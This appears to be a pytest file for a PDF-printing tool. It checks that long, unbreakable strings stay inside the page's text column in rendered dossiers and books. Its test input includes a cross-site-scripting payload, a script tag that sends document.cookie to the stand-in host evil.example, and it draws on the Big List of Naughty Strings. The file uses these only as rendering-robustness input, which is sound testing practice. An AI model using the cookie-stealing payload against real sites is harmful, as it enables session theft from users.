"""Long text stays in its column, in every field of the dossier and the book.

Every text field of a record is filled with tokens that have few or no break
opportunities (a 150-character URL, markup-like text, the Big List of Naughty
Strings' longest tokens, and all of them at once; one entry has the widest
salary figure too). The dossier and the book (the parallel path and the single
pass) are printed, and every character's box
on every page is measured: none may lie left or right of the page's text block
(the paper less the margins the stylesheets give it) or off the paper (running
heads and folios sit in the top and bottom margins). A part's heading (with the
note under it), or the aliases' label, may not be the last thing on a page.

Combining marks (Unicode categories Mn and Me) are left out of the box check:
Pango does not count the ink of stacked marks ("Zalgo" text) in a line's
width, so a line of them overhangs its column, and no style can break a run of
them (one letter and 88 Thai marks no bundled font has is a single grapheme
cluster: in the "mixed" entry its boxes print 155 pt past the text block).
"""

from __future__ import annotations

import copy
import json
import re
import unicodedata
from dataclasses import dataclass

import pypdfium2 as pdfium
import pytest

from conftest import ROOT, Scratch, seed_data
from test_dossier import PARTS
from test_hostile import put, text_slots

MM = 72 / 25.4
TOLERANCE = 1.0  # pt: antialiasing, italic overhang of a glyph at a column's edge
BLNS = json.loads((ROOT / "tests" / "data" / "blns.json").read_text(encoding="utf-8"))

URL = ("https://careers.example.com/jobs/junior-ai-ml-model-training-assistant/apply"
       "?session=0f3a9c7e2b1d4f6a8c0e2b4d6f8a0&utm_source=linkedin&utm_campaign=q3")
MARKUP = ('<script type="text/javascript">document.location=\'https://evil.example/steal?c=\''
          '+document.cookie</script><div/style="width:expression(alert(1))">')
#: The strings of the list with the longest unbroken tokens (the 212-character
#: <IMG SRC=&#0000106...> is broken by printshop every 16 letters; most are not).
LONGEST = sorted((s for s in BLNS if s.strip()),
                 key=lambda s: -max(len(t) for t in s.split()))[:40]
LINE_MAX = 300  # the schema's limit for one-line fields (titles, names, labels)
PARAGRAPHS = {"description", "detail", "footnote", "quote", "diagnosis", "advice", "illusion",
              "translation"}  # fields of up to 20,000 characters
#: The text fields the seed entry leaves out, added so that every field is filled.
EXTRA_FIELDS = {
    "org_chart": {"reports_to": ["VP", "Director"], "peers": ["Peer 1", "Peer 2", "Peer 3"],
                  "direct_reports": ["Report 1", "Report 2"]},
}


def filled(value_of) -> dict:
    """The seed entry with an org chart and a job ad's source, every text field
    holding ``value_of(n)`` for its position ``n``."""
    data = copy.deepcopy(seed_data())
    data.update(copy.deepcopy(EXTRA_FIELDS))
    data["jd_autopsy"][0]["source"] = "LinkedIn"
    for n, slot in enumerate(text_slots(data)):
        value = value_of(n)
        put(data, slot, value if slot[-1] in PARAGRAPHS else value[:LINE_MAX])
    return data


def value_at(data, slot):
    for key in slot:
        data = data[key]
    return data


def widest_figure(data: dict) -> dict:
    """The salary as the widest figure an entry can have, wider than the column."""
    data["salary"].pop("amount", None)
    data["salary"].update(range={"low": 999_999_999.99, "high": 999_999_999.99}, currency="CHF")
    return data


ENTRIES = {
    "url": filled(lambda n: URL),
    "markup": widest_figure(filled(lambda n: MARKUP)),
    "blns": filled(lambda n: LONGEST[n % len(LONGEST)]),
    "mixed": filled(lambda n: " ".join([URL, MARKUP, LONGEST[n % 10]])),
}
#: The books: the single pass and the parallel path, each with the strings of the
#: list (characters no bundled font has among them: their stand-in boxes must keep
#: their widths in the joined fonts) and with plain long tokens. Not the widest
#: figure: the appendix's salary league table (an SVG drawn by book.html.j2) runs
#: it off the page.
BOOKS = [
    pytest.param(("blns", "mixed"), True, id="single-pass"),
    pytest.param(("url",), False, id="parallel"),
    pytest.param(("blns", "mixed"), False, id="parallel-uncovered"),
]


@dataclass
class Glyph:
    text: str
    left: float
    bottom: float
    right: float
    top: float


@dataclass
class Page:
    number: int  # from 1
    width: float
    height: float
    glyphs: list[Glyph]  # every character with a box, in the text layer's order


def pages_of(data: bytes) -> list[Page]:
    pages = []
    document = pdfium.PdfDocument(data)
    try:
        for number, page in enumerate(document, 1):
            text = page.get_textpage()
            glyphs = []
            for index in range(text.count_chars()):
                left, bottom, right, top = text.get_charbox(index)
                if right - left < 0.01:
                    continue  # line ends and other zero-width marks
                glyphs.append(Glyph(text.get_text_range(index, 1), left, bottom, right, top))
            pages.append(Page(number, page.get_width(), page.get_height(), glyphs))
    finally:
        document.close()
    return pages


def combining(text: str) -> bool:
    return bool(text) and unicodedata.category(text[0]) in ("Mn", "Me")


def overshoots(page: Page, left: float, right: float) -> list[tuple[int, str, float]]:
    """(page, character, pt past the text block) for every character that is not
    inside the block between ``left`` and ``right`` margins (pt), or not on the paper."""
    found = []
    for glyph in page.glyphs:
        if combining(glyph.text):
            continue
        past = max(left - glyph.left, glyph.right - (page.width - right),
                   -glyph.bottom, glyph.top - page.height)
        if past > TOLERANCE:
            found.append((page.number, glyph.text, round(past, 1)))
    return found


#: What a heading must not be left with at the foot of a page: each part's heading
#: (with the note under it, where the part has one) and the aliases' label.
NOTES = {
    "[01]": "* The organizational hierarchy defining the pressure flow and extraction cycle "
            "for this role.",
    "[10]": "* The stark reality of the role, scraped from Reddit, Blind, and anonymous career "
            "boards.",
}
HEADINGS = [(part, NOTES.get(part[:4], "")) for part in PARTS] + [("Known aliases / disguises", "")]


def compact(text: str) -> str:
    return "".join(ch.upper()[:1] for ch in text if not ch.isspace())


def lone_headings(page: Page, top: float, bottom: float) -> list[tuple[int, str]]:
    """Headings (and the notes under them) with nothing of the page's text block
    below them."""
    inside = [g for g in page.glyphs
              if bottom < (g.top + g.bottom) / 2 < page.height - top and g.text.strip()]
    letters = "".join(compact(g.text[:1]) for g in inside)
    found = []
    for heading, note in HEADINGS:
        pattern = re.escape(compact(heading)) + (f"(?:{re.escape(compact(note))})?" if note else "")
        for match in re.finditer(pattern, letters):
            own = inside[match.start():match.end()]
            foot = min(g.bottom for g in own)
            rest = [g for g in inside[match.end():] + inside[:match.start()]
                    if (g.top + g.bottom) / 2 < foot]
            if not rest:
                found.append((page.number, heading))
    return found


def report(outside: list, alone: list) -> str:
    worst = max(outside, key=lambda o: o[2], default=None)
    return (f"{len(outside)} characters outside the text block (the farthest: {worst}; "
            f"the first: {outside[:8]}); headings that end a page: {alone}")


def dossier_margins() -> tuple[float, float, float, float]:
    """The dossier's page margins (top, right, bottom, left) in pt, from dossier.css."""
    css = (ROOT / "layouts" / "dossier.css").read_text(encoding="utf-8")
    match = re.search(r"@page\s*\{[^}]*?margin:\s*([\d.]+)mm\s+([\d.]+)mm\s+([\d.]+)mm\s+"
                      r"([\d.]+)mm", css)
    assert match, "dossier.css gives the page's four margins in mm"
    return tuple(float(v) * MM for v in match.groups())


def book_margins(project, index: int) -> tuple[float, float, float, float]:
    """The book's margins (top, right, bottom, left) in pt on the page at ``index``:
    none on the cover; the inner margin on the left of right-hand (odd) pages."""
    from printshop.book import MARGINS

    if index == 0:
        return (0, 0, 0, 0)
    top, bottom, inner, outer = (v * MM for v in MARGINS[project.config.print.paper])
    if index % 2 == 0:  # a right-hand page: the binding on its left
        return (top, outer, bottom, inner)
    return (top, inner, bottom, outer)


def scratch_project(root, slugs):
    scratch = Scratch(root)
    for slug in slugs:
        scratch.write(slug, ENTRIES[slug])
    return scratch.project


@pytest.fixture(scope="module")
def columns_project(tmp_path_factory):
    return scratch_project(tmp_path_factory.mktemp("columns") / "project", ENTRIES)


@pytest.fixture(scope="module")
def dossiers(columns_project):
    from printshop.dossier import Dossiers
    from printshop.load import load_bestiary

    bestiary = load_bestiary(columns_project.entries_dir)
    assert sorted(bestiary.loaded) == sorted(ENTRIES) and not bestiary.problems
    renderer = Dossiers(columns_project)
    return {slug: renderer.pdf(bestiary.loaded[slug], bestiary) for slug in ENTRIES}


def test_every_field_is_filled():
    """The entries reach every text field, and the tokens are long and unbroken."""
    for data in ENTRIES.values():
        assert data["org_chart"] and data["salary"]["label"] and data["jd_autopsy"][0]["source"]
    slots = list(text_slots(ENTRIES["url"]))
    assert len(slots) > 50 and {value_at(ENTRIES["url"], slot) for slot in slots} == {URL}
    assert len(URL) == 150 and " " not in URL
    assert sum(len(max(s.split(), key=len)) > 60 for s in LONGEST) >= 10
    assert ENTRIES["markup"]["salary"]["range"]


@pytest.mark.parametrize("slug", list(ENTRIES))
def test_dossier_text_stays_in_its_column(dossiers, slug):
    top, right, bottom, left = dossier_margins()
    pages = pages_of(dossiers[slug])
    outside = [o for page in pages for o in overshoots(page, left, right)]
    alone = [h for page in pages for h in lone_headings(page, top, bottom)]
    assert not outside and not alone, report(outside, alone)


@pytest.mark.parametrize("slugs, single_pass", BOOKS)
def test_book_text_stays_in_its_column(tmp_path, slugs, single_pass):
    from printshop import build
    from printshop.book import book_path

    project = scratch_project(tmp_path / "project", slugs)
    outcome = build.book(project, tmp_path, jobs=2, single_pass=single_pass)
    assert outcome.ok, outcome.failures
    pages = pages_of(book_path(project, tmp_path).read_bytes())
    outside, alone = [], []
    for index, page in enumerate(pages):
        top, right, bottom, left = book_margins(project, index)
        outside += overshoots(page, left, right)
        if index:
            alone += lone_headings(page, top, bottom)
    assert not outside and not alone, report(outside, alone)
